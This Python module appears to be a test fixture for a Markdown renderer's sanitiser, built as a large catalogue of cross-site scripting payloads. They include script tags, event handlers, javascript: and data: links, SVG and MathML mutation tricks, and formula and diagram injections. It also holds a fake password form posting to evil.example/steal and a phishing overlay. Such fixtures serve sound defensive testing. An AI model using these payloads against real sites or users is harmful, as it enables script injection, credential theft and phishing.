"""Markdown that tries to run, to cover, to lead away or to spy. Each leaves `window.__pwned` or opens a dialog if it works."""

RUN = "window.__pwned=1;alert(1)"
AWAY = "https://evil.example/steal"

SCRIPTS = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f"<script src={AWAY}.js></script>",
    "script as a module": f'<script type=module>import "{AWAY}.js"</script>',
    "script in a paragraph": f"hello <script>{RUN}</script> world",
    "script in pieces": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script in upper case": f"<SCRIPT>{RUN}</SCRIPT>",
    "script with an entity": f"&lt;script&gt;{RUN}&lt;/script&gt; <script>{RUN}</script>",
    "script in a table": f"| a |\n| - |\n| <script>{RUN}</script> <img src=x onerror={RUN}> |",
    "script in a list": f"- [ ] <img src=x onerror={RUN}>\n- <script>{RUN}</script>",
    "script in a quotation": f"> <img src=x onerror={RUN}>\n> <script>{RUN}</script>",
    "script in a heading": f"### <img src=x onerror={RUN}>",
    "script in a footnote": f"x[^a]\n\n[^a]: <img src=x onerror={RUN}> [y](javascript:{RUN})",
    "script in a footnote's name": f'x[^"><img/src/onerror={RUN}>]\n\n[^"><img/src/onerror={RUN}>]: y',
    "script in code": f"```html\n<script>{RUN}</script>\n<img src=x onerror={RUN}>\n```",
    "script in a language": f'```"><img/src=x/onerror={RUN}>\nx\n```',
    "script in a picture's text": f'![" onerror="{RUN}](x.png)',
    "script in a link's title": f'[x](#unclosed "\\" onmouseover=\\"{RUN}")',
    "script in a comment": f"<!--><img src=x onerror={RUN}>-->",
}

HANDLERS = {
    "error": f"<img src=x onerror={RUN}>",
    "error, odd quoting": f'<img src="x"onerror="{RUN}"/onload={RUN}>',
    "error with a slash": f"<img/src=x/onerror={RUN}>",
    "error after a line end": f"<img\nsrc=x\nonerror={RUN}>",
    "error of a picture's source": f"<picture><source srcset=x onerror={RUN}><img src=x onerror={RUN}></picture>",
    "error of a video": f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}></audio>",
    "load of a body": f"<body onload={RUN}>",
    "load of an svg": f"<svg onload={RUN}></svg>",
    "load of a frame": f'<iframe onload={RUN} src="about:blank"></iframe>',
    "toggle": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "focus": f"<input autofocus onfocus={RUN}><textarea autofocus onfocus={RUN}></textarea>",
    "focus of anything": f"<div tabindex=0 autofocus onfocus={RUN} contenteditable>x</div>",
    "animation": f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>x</b>",
    "transition": f"<b style=transition:all onclick={RUN} onpointerenter={RUN} onmouseover={RUN}>x</b>",
    "scroll": f"<div style=overflow:auto;height:1px onscroll={RUN}><br><br><br></div>",
    "popover": f"<button popovertarget=x onclick={RUN}>y</button><div popover id=x onbeforetoggle={RUN}>z</div>",
    "custom element": f"<x-evil is=script onclick={RUN} onfocus={RUN} tabindex=0>x</x-evil>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
}

LINKS = {
    "link": f"[x](javascript:{RUN})",
    "link in mixed case": f"[x](JaVaScRiPt:{RUN})",
    "link with entities": f"[x](&#106;avascript:{RUN})",
    "link with hex entities": f"[x](&#x6A;&#x61;vascript&colon;{RUN})",
    "link with a tab": f'<a href="java&#9;script:{RUN}">x</a>',
    "link with a line end": f'<a href="java&NewLine;script:{RUN}">x</a>',
    "link after a control character": f'<a href="&#1;javascript:{RUN}">x</a>',
    "link after spaces": f'<a href="  javascript:{RUN}">x</a>',
    "link with a comment": f"[x](javascript://%0a{RUN})",
    "link in angles": f"<javascript:{RUN}>",
    "link by reference": f"[x][bad]\n\n[bad]: javascript:{RUN}",
    "link of a picture": f"[![x](y.png)](javascript:{RUN})",
    "picture": f"![x](javascript:{RUN})",
    "vbscript": "[x](vbscript:msgbox(1))",
    "data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data with svg": f"<a href=\"data:image/svg+xml,<svg onload='{RUN}'>\">x</a>",
    "blob": "[x](blob:https://evil.example/1)",
    "file": "[x](file:///etc/passwd)",
    "target": f'<a href="javascript:{RUN}" target=_blank>x</a> <a href="javascript:{RUN}" target=_top>x</a>',
    "area": f'<map name=m><area shape=default href="javascript:{RUN}"></map><img usemap=#m src=x width=9 height=9>',
    "ping": f'<a href="#unclosed" ping="{AWAY}">x</a>',
    "download": f'<a download href="javascript:{RUN}">x</a>',
}

FRAMES = {
    "svg": f'<svg><script>{RUN}</script><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>',
    "svg animated": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg with a link that changes": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=9>x</text></a></svg>',
    "svg with html": f'<svg><foreignObject><iframe srcdoc="<script>parent.{RUN}</script>"></iframe></foreignObject></svg>',
    "svg that is used": f"<svg><use href=\"data:image/svg+xml,<svg id='x'><script>{RUN}</script></svg>#x\"/></svg>",
    "math element": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    "math link": f'<math><mtext href="javascript:{RUN}">x</mtext><maction actiontype="statusline#{AWAY}">x</maction></math>',
    "frame": f"<iframe src={AWAY}></iframe>",
    "frame with a document": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "frame with a script": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "object": f'<object data={AWAY}></object><embed src={AWAY}><object data="javascript:{RUN}"></object>',
    "form": f"<form action={AWAY}><input name=password type=password><button>Log in</button></form>",
    "form by script": f'<form action="javascript:{RUN}"><input type=submit value=x></form>',
    "button with an action": f'<button formaction="javascript:{RUN}">x</button>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    "base": "<base href=https://evil.example/>",
    "link to a style": f"<link rel=stylesheet href={AWAY}.css><link rel=preload as=script href={AWAY}.js>",
    "prefetch": f"<link rel=prefetch href={AWAY}><link rel=dns-prefetch href=//evil.example>",
    "style": "<style>body{display:none!important}</style>",
    "style from elsewhere": f"<style>@import url({AWAY}.css); *{{background:url({AWAY})}}</style>",
    "overlay": "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Your session ended. Password?</div>",
    "overlay by class": '<div class="dialog-backdrop menu toast drop-overlay">cover</div>',
    "background": f"<table background={AWAY}><tr><td background={AWAY}>x</td></tr></table>",
    "clobbering": "<a id=body></a><img name=cookie><a id=root>x</a><form id=fetch></form><a id=defaultView href=x>x</a>",
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "mutation by template": f"<template><img src=x onerror={RUN}></template>",
    "mutation by nesting": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "mutation by cdata": f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    "dialog": "<dialog open>cover</dialog>",
    "forged place of a task": f'<span class="md-task-place" data-task-line=0 data-task-done=true onclick={RUN}>x</span>',
}

EXTRAS = {
    "formula with a link": f"$\\href{{javascript:{RUN}}}{{x}}$ and $\\url{{javascript:{RUN}}}$",
    "formula with html": f"$\\htmlData{{x=<img src=x onerror={RUN}>}}{{y}}$ $\\htmlStyle{{position:fixed}}{{z}}$",
    "formula with a picture": f"$\\includegraphics{{{AWAY}.png}}$",
    "formula that is html": f"$<img src=x onerror={RUN}>$\n\n$$\n<script>{RUN}</script>\n$$",
    "formula without end": "$\\def\\x{\\x\\x}\\x$ $\\rule{99999em}{99999em}$",
    "diagram with a link": f'```mermaid\ngraph LR\n  A-->B\n  click A href "javascript:{RUN}"\n  click B call alert(1)\n```',
    "diagram with html": f'```mermaid\ngraph LR\n  A["<img src=x onerror={RUN}>"] --> B["<script>{RUN}</script>"]\n```',
    "diagram that sets itself free": (
        f'```mermaid\n%%{{init: {{"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url({AWAY})"}}}}%%\n'
        f'graph LR\n  A["<img src=x onerror={RUN}>"]\n```'
    ),
    "diagram with a mistake": f"```mermaid\ngraph LR\n  A[<img src=x onerror={RUN}> -->\n```",
    "wiki link": f"[[javascript:{RUN}]] [[x|<img src=x onerror={RUN}>]]",
    "a diagram that is one": "```mermaid\ngraph LR\n  A --> B\n```",
    "a formula that is one": "$e = mc^2$",
}

FRONT_MATTER = f"---\ntitle: <img src=x onerror={RUN}>\n'<script>{RUN}</script>': [x](javascript:{RUN})\n---\n\n"
UNCLOSED = f"\n\n## unclosed\n\n<div><table><svg><style><img src=x onerror={RUN}"

DOCUMENTS = {
    name: FRONT_MATTER + "\n\n".join(f"## {title}\n\n{text}" for title, text in entries.items()) + UNCLOSED
    for name, entries in {
        "scripts": SCRIPTS,
        "handlers": HANDLERS,
        "links": LINKS,
        "frames": FRAMES,
        "extras": EXTRAS,
    }.items()
}
HEADINGS = {"scripts": SCRIPTS, "handlers": HANDLERS, "links": LINKS, "frames": FRAMES, "extras": EXTRAS}
